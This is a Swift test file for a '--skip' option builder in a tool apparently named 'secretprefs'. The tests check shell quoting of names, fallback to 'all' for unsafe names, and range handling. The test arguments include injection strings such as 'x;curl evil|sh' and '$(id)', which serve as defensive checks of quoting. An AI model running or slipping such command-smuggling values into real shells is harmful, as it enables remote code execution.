import Testing

@testable import secretprefs

/// The list of `--skip`, and the one that a hint names.
struct SkippedPartsTests {
  private static func fault(_ line: Int, _ last: Int? = nil, _ name: String = "") -> PlainFault {
    PlainFault(line: line, name: name, reason: "bad", lastLine: last)
  }

  @Test(arguments: [
    ("x;curl evil|sh", "'x;curl evil|sh'"), ("$(id)", "'$(id)'"), ("it's", "'it'\\''s'"), ("a b", "'a b'"),
    ("web/loop", "web/loop"), ("7 up", "'7 up'"), ("7", "7"), ("5-9", "5-9"), ("2024-01", "2024-01"), ("0", "0"),
  ])
  func `a name is one word of a shell, and the list with it stands for the name`(_ name: String, _ word: String) throws
  {
    let faults = [Self.fault(0, nil, name), Self.fault(0, nil, "y")]
    #expect(SkippedParts.option(faults) == "--skip " + (word == name ? "\(name),y" : "\(word.dropLast()),y'"))
    #expect(try SkippedParts("\(name),y").divide(faults).remaining.isEmpty)
    let outcome = try Tool.shell("printf %s \(SkippedParts.option([Self.fault(0, nil, name)]))", in: try Scratch())
    #expect(outcome.text == "--skip\(name)")
  }

  @Test(arguments: [
    "all", "@x", "@", "-x", " x", "x ", "\tx", "", ",", "a,b", "a,\u{301}", "x\u{1B}", "a\u{202E}b",
  ])
  func `a name that a list reads as something else is left out with all`(_ name: String) {
    #expect(SkippedParts.option([Self.fault(0, nil, name), Self.fault(0, nil, "y")]) == "--skip all")
  }

  @Test func `lines and ranges stand without quotes`() {
    #expect(SkippedParts.option([Self.fault(2, 3), Self.fault(5)]) == "--skip 2-3,5")
  }

  @Test func `numbers name an entry only if the source has no lines`() throws {
    let faults = [Self.fault(0, nil, "7"), Self.fault(0, nil, "0")]
    let (skipped, remaining) = try SkippedParts("7").divide(faults)
    #expect(skipped.map(\.name) == ["7"] && remaining.map(\.name) == ["0"])
    #expect(throws: ToolError.self) { try SkippedParts("7").divide([Self.fault(3, nil, "7")]) }
    #expect(throws: ToolError.self) { try SkippedParts("9-5").divide([Self.fault(7, nil, "9")]) }
  }

  @Test func `the parts that a list leaves out are those that a look at each range finds`() throws {
    var random = SeededRandom(12)
    for _ in 0..<2000 {
      let most = Int.random(in: 3...40, using: &random)
      func range() -> ClosedRange<Int> {
        let first = Int.random(in: 1...most, using: &random)
        return first...(Bool.random(using: &random) ? first : Int.random(in: first...most, using: &random))
      }
      let faults = (0..<Int.random(in: 0...8, using: &random)).map { _ in range() }
        .sorted { $0.lowerBound < $1.lowerBound }
        .map { range in
          let name = ["", "n", "m"].randomElement(using: &random)!
          return Self.fault(range.lowerBound, range.count > 1 ? range.upperBound : nil, name)
        }
      let ranges = (0..<Int.random(in: 1...6, using: &random)).map { _ in range() }
      let isNamed = Bool.random(using: &random)
      let list = ranges.map { $0.count > 1 ? "\($0.lowerBound)-\($0.upperBound)" : "\($0.lowerBound)" }
      let isUnused =
        ranges.contains { range in !faults.contains { range.overlaps($0.line...($0.lastLine ?? $0.line)) } }
        || isNamed && !faults.contains { $0.name == "n" }
      let skips = try SkippedParts((list + (isNamed ? ["n"] : [])).joined(separator: ","))
      guard !isUnused else {
        #expect(throws: ToolError.self) { try skips.divide(faults) }
        continue
      }
      let simple = faults.map { fault in
        isNamed && fault.name == "n" || ranges.contains { $0.overlaps(fault.line...(fault.lastLine ?? fault.line)) }
      }
      let (skipped, remaining) = try skips.divide(faults)
      #expect(skipped.map(Self.words) == zip(faults, simple).filter(\.1).map { Self.words($0.0) })
      #expect(remaining.map(Self.words) == zip(faults, simple).filter { !$0.1 }.map { Self.words($0.0) })
    }
  }

  private static func words(_ fault: PlainFault) -> String { fault.part.text }
}
